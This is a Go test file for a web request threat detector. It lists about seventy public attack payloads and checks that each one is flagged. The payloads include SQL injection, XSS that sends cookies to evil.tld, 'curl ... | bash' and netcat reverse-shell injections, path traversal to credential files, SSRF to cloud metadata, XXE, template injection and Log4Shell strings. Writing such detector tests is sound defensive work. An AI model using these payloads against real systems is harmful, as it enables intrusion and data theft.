package detect

import (
	"context"
	"testing"
)

// moreAttacks are further payloads written for these tests (classic forms from
// public cheat sheets, retyped), checked only for being a threat at all.
var moreAttacks = []struct{ where, in string }{
	{"query:id", "5 AND (SELECT 1 FROM (SELECT SLEEP(3))x)"},
	{"query:id", "1' AND 1=CONVERT(int,(SELECT @@version))--"},
	{"query:id", "1 OR 1=1"},
	{"query:id", "-1' UNION SELECT 1,table_name FROM information_schema.tables#"},
	{"query:user", "admin'/*"},
	{"query:user", "' OR ''='"},
	{"query:id", "1;SELECT pg_sleep(5)"},
	{"query:id", "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64"},
	{"query:q", "1' ORDER BY 10-- -"},
	{"query:q", "x' AND extractvalue(1,concat(0x5c,database()))-- "},
	{"query:q", "');DROP TABLE students;--"},
	{"cookie:id", "1 UNION/**/SELECT/**/user,pass/**/FROM/**/admin"},
	{"query:q", "<svg onload=alert(document.domain)>"},
	{"query:q", "<img src=1 onerror=\"fetch('https://evil.tld?c='+document.cookie)\">"},
	{"query:q", "\"><script src=https://evil.tld/x.js></script>"},
	{"query:q", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"},
	{"query:q", "<details open ontoggle=alert(1)>"},
	{"query:q", "<iframe src=\"javascript:alert(1)\"></iframe>"},
	{"query:q", "'-alert(1)-'"},
	{"query:q", "\";alert(1);//"},
	{"query:q", "<a href=\"javascript&colon;alert(1)\">x</a>"},
	{"query:q", "<body onpageshow=alert(1)>"},
	{"query:q", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"},
	{"query:host", "127.0.0.1 | cat /etc/passwd"},
	{"query:host", "google.com; id"},
	{"query:host", "`whoami`"},
	{"query:host", "$(id)"},
	{"query:file", "x; curl http://evil.tld/s | bash"},
	{"query:host", "127.0.0.1 && ping -c 3 evil.tld"},
	{"query:host", "a|nc evil.tld 4444 -e /bin/sh"},
	{"query:cmd", "& ipconfig /all"},
	{"query:file", "../../../../../../etc/shadow"},
	{"query:file", "..\\..\\..\\windows\\system32\\config\\sam"},
	{"query:file", "/var/www/html/../../../etc/passwd"},
	{"query:file", "....//....//etc/passwd"},
	{"query:file", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"},
	{"query:page", "php://input"},
	{"query:page", "expect://id"},
	{"query:page", "http://evil.tld/shell.txt%00"},
	{"query:url", "http://169.254.169.254/computeMetadata/v1/"},
	{"query:url", "http://0.0.0.0:22"},
	{"query:url", "file:///etc/passwd"},
	{"query:url", "dict://127.0.0.1:11211/stat"},
	{"query:url", "http://localhost/admin"},
	{"body:xml", "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.tld/x.dtd\"> %xxe;]><foo/>"},
	{"query:q", "{{config.items()}}"},
	{"query:q", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"},
	{"query:q", "${7*7}"},
	{"query:q", "<%= 7*7 %>"},
	{"query:q", "#{7*7}"},
	{"query:q", "{{constructor.constructor('alert(1)')()}}"},
	{"header:X-Forwarded-For", "${jndi:ldap://evil.tld/a}"},
	{"header:User-Agent", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.tld/a}"},
	{"body:json", "{\"__proto__\":{\"admin\":true}}"},
	{"query-key", "constructor[prototype][admin]"},
	{"query:u", "*)(|(password=*))"},
	{"query:user", "admin)(!(&(1=0"},
	{"body:json", "{\"username\":{\"$gt\":\"\"},\"password\":{\"$gt\":\"\"}}"},
	{"query:q", "';return 'a'=='a' && ''=='"},
	{"query:redirect", "/%0d%0aSet-Cookie:%20session=evil"},
	{"query:q", "O:8:\"Example\":1:{s:3:\"cmd\";s:2:\"id\";}"},
	{"query:q", "<?php echo shell_exec($_GET['c']); ?>"},
	{"query:q", "__import__('os').popen('id').read()"},
	{"query:q", "Runtime.getRuntime().exec(\"id\")"},
	{"query:q", "require('child_process').execSync('id')"},
	{"query:q", "<!--#exec cmd=\"ls\" -->"},
	{"path", "/.env"},
	{"path", "/.git/HEAD"},
	{"path", "/wp-config.php.bak"},
}

func TestDetectMoreAttacks(t *testing.T) {
	d := newTestDetector(t)
	for _, tc := range moreAttacks {
		t.Run(tc.in, func(t *testing.T) {
			if r := d.Detect(context.Background(), tc.in, tc.where); !r.IsThreat {
				t.Errorf("not detected (score %.2f, %+v)", r.ThreatScore, r.Threats)
			}
		})
	}
}
